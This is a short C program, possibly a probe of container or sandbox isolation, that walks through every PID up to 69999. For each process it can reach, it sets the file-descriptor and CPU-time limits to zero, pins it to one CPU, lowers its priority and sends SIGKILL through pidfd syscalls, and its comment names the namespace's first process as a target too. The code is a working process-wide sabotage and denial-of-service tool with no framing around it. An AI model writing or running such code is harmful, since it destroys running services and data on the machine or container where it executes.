// Changes limits, priorities and processors of other processes, and sends
// them signals by pidfd_open(2); the first process of its room, too.
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void)
{
    struct rlimit none = {0, 0};
    cpu_set_t first;
    CPU_ZERO(&first);
    CPU_SET(0, &first);
    for (int pid = 1; pid < 70000; pid++) {
        if (pid == getpid())
            continue;
        if (prlimit(pid, RLIMIT_NOFILE, &none, NULL) == 0
            || prlimit(pid, RLIMIT_CPU, &none, NULL) == 0)
            fprintf(stderr, "written: the limits of %d\n", pid);
        if (sched_setaffinity(pid, sizeof first, &first) == 0
            || setpriority(PRIO_PROCESS, (id_t)pid, 19) == 0)
            fprintf(stderr, "written: the schedule of %d\n", pid);
        int fd = (int)syscall(434, pid, 0); // pidfd_open
        if (fd != -1)
            syscall(424, fd, SIGKILL, NULL, 0); // pidfd_send_signal
        if (fd != -1)
            close(fd);
    }
    return 0;
}
